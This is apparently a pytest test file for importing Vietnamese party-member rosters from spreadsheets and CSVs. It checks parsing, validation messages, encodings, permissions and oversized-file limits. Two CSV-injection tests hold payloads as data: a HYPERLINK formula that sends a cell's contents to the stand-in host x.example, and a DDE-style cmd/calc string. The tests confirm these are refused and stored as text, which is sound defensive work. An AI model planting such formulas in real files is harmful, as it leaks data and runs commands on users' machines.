"""Importing people from files shaped like real commune spreadsheets and CSVs."""

from __future__ import annotations

from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from app import clock
from app.models import AuditEntry, Person
from app.models.enums import Gender, MembershipStatus
from app.services import columns, people, sheets
from app.services import people_import as importing
from app.services.errors import Conflict, PermissionDenied, ValidationError
from tests.helpers import unit_by_code
from tests.sheets_factory import commune_roster, cp1258

SINCE = date(2026, 1, 1)


def person_count(db) -> int:
    with db.session_scope() as session:
        return session.scalar(select(func.count()).select_from(Person))


@pytest.fixture
def someone_in_ta_ha(db, clerk):
    unit = unit_by_code(db, clerk, "PHONGNIEN-01")
    row = next(r for r in people.list_page(db, clerk, people.PeopleFilter(unit_id=unit.id,
                                                                          status=MembershipStatus.ACTIVE))
               if r.birth_year)
    return row.full_name, row.birth_year


@pytest.fixture
def roster(tmp_path, someone_in_ta_ha):
    return sheets.read_table(commune_roster(tmp_path / "danh-sach.xlsx", someone_in_ta_ha))


def preview_of(db, actor, table, **options):
    return importing.check(db, actor, table, importing.guess_mapping(table), importing.ImportOptions(SINCE, **options))


def errors_by_line(preview) -> dict[int, str]:
    return {row.line: " | ".join(row.errors) for row in preview.bad}


def test_the_header_is_found_below_title_rows_over_two_rows(roster):
    mapping = importing.guess_mapping(roster)
    assert mapping.header_line == 5 and mapping.header_rows == 2
    assert mapping.columns == {"full_name": 1, "birth_male": 2, "birth_female": 3, "ethnicity": 4, "position": 5,
                               "unit": 6}
    assert columns.column_titles(roster, mapping)[2] == "C — Năm sinh / Nam"


def test_each_bad_row_is_named_with_its_reason_and_good_rows_are_read_right(db, clerk, roster, someone_in_ta_ha):
    preview = preview_of(db, clerk, roster)

    assert [row.line for row in preview.good] == [7, 8]
    hung, mai = (row.person for row in preview.good)
    assert (hung.full_name, hung.birth_year, hung.gender) == ("Nguyễn Văn Hùng", 1968, Gender.MALE)
    assert hung.full_name == "Nguyễn Văn Hùng".encode().decode()  # NFC, though the file held NFD
    assert (mai.birth_year, mai.gender, mai.ethnicity) == (1975, Gender.FEMALE, "Tày")  # "12/03/1975" typed as text
    assert {row.unit_name for row in preview.good} == {"Chi bộ thôn Tả Hà (xã Phong Niên)"}  # another xã has one

    bad = errors_by_line(preview)
    assert bad[9] == "Thiếu «Họ và tên» (cột B)."
    assert "«19755» không đọc được" in bad[10]
    assert "không tìm thấy «Thôn Sơn La»" in bad[11]
    assert bad[12] == "Trùng với dòng 7 (cùng họ tên và năm sinh)."
    assert bad[13].startswith(f"Đã có trong danh sách: {someone_in_ta_ha[0]}, sinh năm {someone_in_ta_ha[1]}")
    assert ("có 2 đơn vị cùng tên «Bắc Hà»: Chi bộ thôn Bắc Hà (GIAPHU-02); Chi bộ thôn Bắc Hà (PHONGNIEN-03). "
            "Hãy ghi một trong các tên trên, hoặc mã đơn vị.") in bad[14]
    assert {row.line: row.skipped.split(" ")[0] for row in preview.skipped} == {6: "dòng", 15: "dòng"}
    assert len(preview.rows) == 10  # nothing read after the totals row (place, date, signature)


def test_nothing_is_written_until_commit_then_all_good_rows_at_once(db, clerk, roster):
    before = person_count(db)
    preview = preview_of(db, clerk, roster)
    assert person_count(db) == before

    assert importing.commit(db, clerk, preview) == 2

    assert person_count(db) == before + 2
    found = people.list_page(db, clerk, people.PeopleFilter("nguyen van hung"))
    assert [(r.full_name, r.unit_name, r.status) for r in found] == [
        ("Nguyễn Văn Hùng", "Chi bộ thôn Tả Hà", MembershipStatus.ACTIVE)]
    with db.session_scope() as session:
        summary = session.scalars(select(AuditEntry).where(AuditEntry.action == "nhập tệp")).one()
        assert summary.username == "nhaplieu" and summary.after == {"file": "danh-sach.xlsx", "added": 2,
                                                                    "rejected": 6}
    # the same file again: the two are now duplicates, nothing left to import
    again = preview_of(db, clerk, roster)
    assert again.good == [] and "Đã có trong danh sách" in errors_by_line(again)[7]


def test_a_change_between_preview_and_commit_writes_nothing(db, clerk, roster):
    preview = preview_of(db, clerk, roster)
    unit = unit_by_code(db, clerk, "PHONGNIEN-01")
    people.create(db, clerk, people.PersonInput("Lò Thị Mai", 1975, Gender.FEMALE), unit_id=unit.id)
    before = person_count(db)
    with pytest.raises(Conflict, match="xem trước lại"):
        importing.commit(db, clerk, preview)
    assert person_count(db) == before


def test_a_stopped_import_writes_nothing(db, clerk, roster, monkeypatch):
    from app.services.errors import Cancelled
    from app.services.progress import Progress

    monkeypatch.setattr(importing, "FLUSH_EVERY", 1)  # a batch per row, so the stop lands between batches
    before, seen = person_count(db), []
    with pytest.raises(Cancelled):  # stopped after the first person was made, before the rest
        importing.commit(db, clerk, preview_of(db, clerk, roster), progress=Progress(
            should_stop=lambda: len(seen) == 1, report=lambda done, total: seen.append((done, total))))
    assert seen == [(1, 2)] and person_count(db) == before


def test_bad_rows_are_saved_to_fix_and_import_again(db, clerk, roster, tmp_path):
    preview = preview_of(db, clerk, roster)
    saved = tmp_path / "dong-loi.xlsx"
    assert importing.save_rejected(preview, saved) == 6
    rows = list(load_workbook(saved).active.iter_rows(values_only=True))
    assert rows[0][0] == "Dòng trong tệp gốc" and rows[0][-1] == "Lỗi"
    assert [row[0] for row in rows[1:]] == [9, 10, 11, 12, 13, 14]
    assert rows[2][2] == "Vàng A Sử" and "19755" in rows[2][-1]
    again = sheets.read_table(saved)  # fixed by the clerk, then imported again: its columns are known
    assert importing.guess_mapping(again).columns == {"full_name": 2, "birth_male": 3, "birth_female": 4,
                                                      "ethnicity": 5, "position": 6, "unit": 7}

    as_csv = tmp_path / "dong-loi.csv"
    importing.save_rejected(preview, as_csv)
    assert as_csv.read_text(encoding="utf-8-sig").splitlines()[1].startswith("9;3;;1980")


def test_a_cp1258_csv_with_semicolons_and_header_variants(db, clerk, tmp_path):
    lines = ["Họ tên;Ngày sinh;Giới tính;Chi bộ;Trạng thái",
             "Phạm Thị Ngọc Ánh;05/09/1982;Nữ;PHONGNIEN-02;Đang sinh hoạt",
             "Lường Văn Điệp;1950;nam;Chi bộ thôn Đồng Tâm;Miễn sinh hoạt",
             "Hà Văn Sáng;31/02/1960;Nam;Đồng Tâm;",
             "Tráng A Dơ;1985;không rõ;Đồng Tâm;",
             "Lý Thị Sen;1991;Nữ;Đồng Tâm;nghỉ"]
    path = tmp_path / "xuat-tu-excel.csv"
    path.write_bytes(cp1258("\r\n".join(lines)))
    table = sheets.read_table(path)
    assert table.rows[1][0] != "Phạm Thị Ngọc Ánh"  # as stored: tones as separate marks
    preview = preview_of(db, clerk, table)

    assert [(r.person.full_name, r.person.birth_year, r.person.gender, r.status) for r in preview.good] == [
        ("Phạm Thị Ngọc Ánh", 1982, Gender.FEMALE, MembershipStatus.ACTIVE),
        ("Lường Văn Điệp", 1950, Gender.MALE, MembershipStatus.EXEMPT)]
    bad = errors_by_line(preview)
    assert "«Năm sinh / ngày sinh» (cột B): «31/02/1960» không đọc được" in bad[4]
    assert bad[5] == "«Giới tính» (cột C): «không rõ» không rõ; hãy ghi Nam hoặc Nữ."
    assert bad[6].startswith("«Trạng thái» (cột E): «nghỉ» không rõ")


def test_a_file_for_one_chi_bo_uses_the_unit_chosen_for_all_rows(db, clerk, tmp_path):
    path = tmp_path / "chi-bo.csv"
    path.write_text("STT,Họ và tên,Năm sinh\n1,Giàng A Pao,1979\n2,Sùng Thị Dung,1840\n", encoding="utf-8")
    table = sheets.read_table(path)
    without = preview_of(db, clerk, table)
    assert "hãy ghi chi bộ hoặc chọn một chi bộ chung" in errors_by_line(without)[2]

    unit = unit_by_code(db, clerk, "PHONGNIEN-04")
    preview = preview_of(db, clerk, table, default_unit_id=unit.id)
    assert [r.unit_name for r in preview.good] == ["Chi bộ thôn Cốc Sâm"]
    assert errors_by_line(preview)[3] == "«Năm sinh / ngày sinh» (cột C): «1840»: năm sinh phải từ 1900 đến " \
                                         f"{clock.today().year - 16}."


def test_a_name_two_units_share_is_told_apart_by_its_commune_or_code_in_the_file(db, admin, tmp_path):
    """The district imports for several communes: «Tả Hà (Phong Niên)», «Thôn Tả Hà - xã …» or the name with
    its code picks the one meant; the bare name is refused, listing both as the app names them."""
    from collections import defaultdict

    from app.services import units as unit_service

    nodes = unit_service.tree(db, admin)
    by_id = {node.id: node for node in nodes}
    named = defaultdict(list)
    for node in nodes:
        if node.kind.holds_members and node.active and node.parent_id:
            named[node.name].append(node)
    shared = next(both for both in named.values()
                  if len(both) == 2 and both[0].parent_id != both[1].parent_id)
    first, second = shared
    commune = by_id[second.parent_id].name.removeprefix("Đảng bộ ")
    place = first.name.removeprefix("Chi bộ ")
    path = tmp_path / "huyen.csv"
    path.write_text("STT,Họ và tên,Năm sinh,Chi bộ\n"
                    f"1,Giàng A Pao,1979,{place} ({by_id[first.parent_id].name})\n"
                    f"2,Sùng Thị Dung,1980,{first.name} - {commune}\n"
                    f"3,Lò Văn Sáng,1981,\"{place}, {second.code}\"\n"
                    f"4,Hà Thị Lan,1982,{place}\n", encoding="utf-8")
    preview = preview_of(db, admin, sheets.read_table(path))
    assert [row.unit_id for row in preview.good] == [first.id, second.id, second.id]
    told_apart = unit_service.distinct_names(nodes)
    assert [row.unit_name for row in preview.good] == [told_apart[first.id], told_apart[second.id],
                                                         told_apart[second.id]]
    refused = errors_by_line(preview)[5]
    assert f"có 2 đơn vị cùng tên «{place}»" in refused
    assert told_apart[first.id] in refused and told_apart[second.id] in refused


def test_group_title_rows_give_the_unit_of_the_rows_below(db, clerk, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["TT", "Họ và tên", "Năm sinh", "Dân tộc"])
    sheet.append(["I. Chi bộ thôn Cốc Sâm"])
    sheet.merge_cells("A2:D2")
    sheet.append([1, "Ly Seo Chử", 1977, "Mông"])
    sheet.append(["II. Chi bộ thôn Đồng Tâm"])
    sheet.merge_cells("A4:D4")
    sheet.append([1, "Vàng Thị Mỷ", 1988, "Mông"])
    book.save(tmp_path / "nhom.xlsx")
    preview = preview_of(db, clerk, sheets.read_table(tmp_path / "nhom.xlsx"))
    assert [(r.person.full_name, r.unit_name) for r in preview.good] == [
        ("Ly Seo Chử", "Chi bộ thôn Cốc Sâm"), ("Vàng Thị Mỷ", "Chi bộ thôn Đồng Tâm")]


def test_old_font_text_is_named_not_imported_as_garbage(db, clerk, tmp_path):
    path = tmp_path / "tcvn3.csv"
    path.write_text("Họ và tên;Năm sinh;Chi bộ\nNguyÔn V¨n Tr­êng;1970;Tả Hà\nÑaëng Vaên Tuaán;1972;Tả Hà\n",
                    encoding="utf-8")
    bad = errors_by_line(preview_of(db, clerk, sheets.read_table(path)))
    assert "phông cũ (TCVN3/VNI)" in bad[2] and "phông cũ (TCVN3/VNI)" in bad[3]


def test_a_clerk_cannot_import_into_units_outside_their_scope(db, clerk, inspector, tmp_path):
    path = tmp_path / "xa-khac.csv"
    path.write_text("Họ và tên;Năm sinh;Chi bộ\nBàn Văn Hậu;1975;XUANQUANG-CQ\n", encoding="utf-8")
    table = sheets.read_table(path)
    assert "không tìm thấy «XUANQUANG-CQ» trong phạm vi của bạn" in errors_by_line(preview_of(db, clerk, table))[2]
    with pytest.raises(PermissionDenied):
        preview_of(db, inspector, table)


@pytest.mark.parametrize(("name", "content", "message"), [
    ("cu.xls", b"\xd0\xcf\x11\xe0", "Excel 97–2003"),
    ("hong.xlsx", b"PK\x03\x04 not really", "tệp hỏng"),
    ("anh.png", b"\x89PNG", "không phải bảng tính"),
    ("doi-ten.csv", b"PK\x03\x04\x00\x00 an .xlsx renamed", "có ký tự nhị phân"),
])
def test_files_that_cannot_be_read_are_named(tmp_path, name, content, message):
    (tmp_path / name).write_bytes(content)
    with pytest.raises(ValidationError, match=message) as raised:
        sheets.read_table(tmp_path / name)
    assert name in str(raised.value)


def _one_cell_far_away(path):
    book = Workbook()
    book.active["A1"] = "Họ và tên"
    book.active["XFD1048576"] = "x"
    book.save(path)


def _unpacks_huge(path):
    import zipfile

    book = Workbook()
    book.active["A1"] = "Họ và tên"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members["xl/sharedStrings.xml"] = b"<sst>" + b"<si><t>x</t></si>" * 5_000_000 + b"</sst>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


@pytest.mark.parametrize(("name", "make", "message"), [
    ("xa.xlsx", _one_cell_far_away, "1.048.576 dòng × 16.384 cột: vượt giới hạn 100.000 dòng và 200 cột"),
    ("nen.xlsx", _unpacks_huge, "giải nén ra 81 MB, vượt giới hạn 60 MB"),
    ("mot-dong.csv", lambda path: path.write_bytes(b"a;" * 5_000_000), "vượt giới hạn 100.000 dòng và 200 cột"),
    ("mot-o.csv", lambda path: path.write_bytes(b"a" * 10_000_000), "dòng 1: một ô dài quá 131.072 ký tự"),
    ("le.txt", lambda path: path.write_bytes(b"\xff\xfe" + "Họ tên".encode("utf-16-le") + b"A"), "UTF-16"),
])
def test_absurd_sheets_are_refused_at_once_naming_the_limit(tmp_path, name, make, message):
    make(tmp_path / name)
    with pytest.raises(ValidationError, match=message) as raised:
        sheets.read_table(tmp_path / name)
    assert name in str(raised.value)


def test_excels_unicode_text_is_read_as_utf16_with_tabs(tmp_path):
    path = tmp_path / "unicode.txt"
    path.write_bytes("Họ và tên\tNăm sinh\nLò Thị Mai\t1975\n".encode("utf-16"))
    assert sheets.read_table(path).rows == [["Họ và tên", "Năm sinh"], ["Lò Thị Mai", "1975"]]


def test_a_file_without_a_name_column_asks_for_the_mapping(db, clerk, tmp_path):
    path = tmp_path / "khong-tieu-de.csv"
    path.write_text("1;2;3\n4;5;6\n", encoding="utf-8")
    table = sheets.read_table(path)
    mapping = importing.guess_mapping(table)
    assert mapping.columns == {}
    with pytest.raises(ValidationError, match="Họ và tên"):
        importing.check(db, clerk, table, mapping, importing.ImportOptions(SINCE))


def test_the_user_can_point_at_another_header_row(roster):
    assert importing.mapping_at(roster, 5) == importing.guess_mapping(roster)
    assert importing.mapping_at(roster, 4).columns["birth"] == 2  # one row: "Năm sinh" without Nam / Nữ
    assert importing.mapping_at(roster, 1).columns == {}


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused_and_stays_text_in_the_bad_rows(db, clerk, tmp_path):
    """CSV injection: «=HYPERLINK(…)» in a name is refused by name, and the bad-rows files written back keep it
    as text (the workbook's cell a string, the CSV's led by «'»)."""
    book = Workbook()
    sheet = book.active
    sheet.append(["Họ và tên", "Năm sinh", "Chi bộ"])
    sheet.append(["Lò Văn Thật", 1980, "PHONGNIEN-01"])
    formula = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    sheet.append([formula, 1981, "PHONGNIEN-01"])
    sheet.append(["@SUM(1+1)*cmd|' /C calc'!A0", 1982, "PHONGNIEN-01"])
    sheet["A3"].data_type = "s"   # typed as text, as a commune's file would carry it
    path = tmp_path / "danh-sach.xlsx"
    book.save(path)
    preview = preview_of(db, clerk, sheets.read_table(path))
    bad = errors_by_line(preview)
    assert [row.person.full_name for row in preview.good] == ["Lò Văn Thật"]
    assert "không được bắt đầu bằng «=»" in bad[3] and "không được bắt đầu bằng «@»" in bad[4]
    saved = tmp_path / "dong-loi.xlsx"
    importing.save_rejected(preview, saved)
    cells = {cell.value: cell.data_type for row in load_workbook(saved).active.iter_rows(min_row=2) for cell in row}
    assert cells[formula] == "s"
    saved_csv = tmp_path / "dong-loi.csv"
    importing.save_rejected(preview, saved_csv)
    lines = saved_csv.read_text(encoding="utf-8-sig").splitlines()
    assert any(line.split(";")[1].startswith("'=HYPERLINK") or "\"'=HYPERLINK" in line for line in lines[1:])
    assert not any(line.split(";")[1].startswith("=") for line in lines[1:])


def test_a_formula_in_a_name_cell_is_named_as_a_formula_and_kept_as_text(db, clerk, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Họ và tên", "Năm sinh", "Chi bộ"])
    sheet.append(["=HYPERLINK(\"http://x\",\"Bấm\")", 1970, "Cốc Sâm"])   # written by a program: never computed
    sheet.append(["Lò Thị Mai", 1975, "Cốc Sâm"])
    book.save(tmp_path / "cong-thuc.xlsx")
    table = sheets.read_table(tmp_path / "cong-thuc.xlsx")
    preview = preview_of(db, clerk, table)
    assert "bắt đầu bằng «=»" in errors_by_line(preview)[2] and "Thiếu" not in errors_by_line(preview)[2]
    importing.save_rejected(preview, tmp_path / "loi.xlsx")
    [cell] = [cell for cell in load_workbook(tmp_path / "loi.xlsx").active[2] if str(cell.value).startswith("=HYP")]
    assert cell.data_type == "s"   # text, not a live formula


def test_a_party_member_younger_than_18_at_admission_is_refused_naming_the_rule(db, clerk, tmp_path):
    source = tmp_path / "tre.csv"
    source.write_text("Họ và tên;Năm sinh;Chi bộ;Ngày vào Đảng\nLò Văn Trẻ;1990;Cốc Sâm;12/05/2006\n"
                      "Lò Văn Đủ;1990;Cốc Sâm;12/05/2008\nLò Văn Nhỏ;2010;Cốc Sâm;\n", encoding="utf-8")
    errors = errors_by_line(preview_of(db, clerk, sheets.read_table(source)))
    assert "sinh năm 1990 mà vào Đảng năm 2006: chưa đủ 18 tuổi (Điều lệ Đảng" in errors[2]
    assert 3 not in errors
    assert "chưa đủ 18 tuổi" in errors[4]
